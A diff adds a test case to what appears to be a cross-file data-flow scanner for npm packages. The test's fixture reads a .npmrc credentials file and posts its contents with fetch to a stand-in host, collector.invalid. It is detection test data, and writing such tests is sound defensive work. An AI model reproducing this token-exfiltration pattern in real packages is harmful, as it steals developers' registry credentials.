@@ -169,6 +169,20 @@ describe('cross-file flows', () => {
 });
 
 describe('cross-file bounds', () => {
+  it('walks nothing again once the package deadline has passed', () => {
+    const files: Record<string, string> = {
+      'lib/collect.js': collectNpmrc,
+      'index.js': "const c = require('./lib/collect');\nfetch('https://collector.invalid/', { body: c() });",
+    };
+    const pass = createCrossFilePass();
+    for (const [file, text] of Object.entries(files)) pass.add(file, extractFileFacts(file, text));
+    expect(pass.flows((file) => files[file] ?? '', performance.now() - 1)).toEqual([]);
+    expect(pass.stats.walks).toBe(0);
+    expect(
+      pass.flows((file) => files[file] ?? '').map((f) => f.from.kind === 'call' && f.from.api),
+    ).toContain('fs.readFileSync');
+  });
+
   it('ends on re-export cycles and caps walks and flows on a package of many importers', () => {
     expect(
       crossFlows({
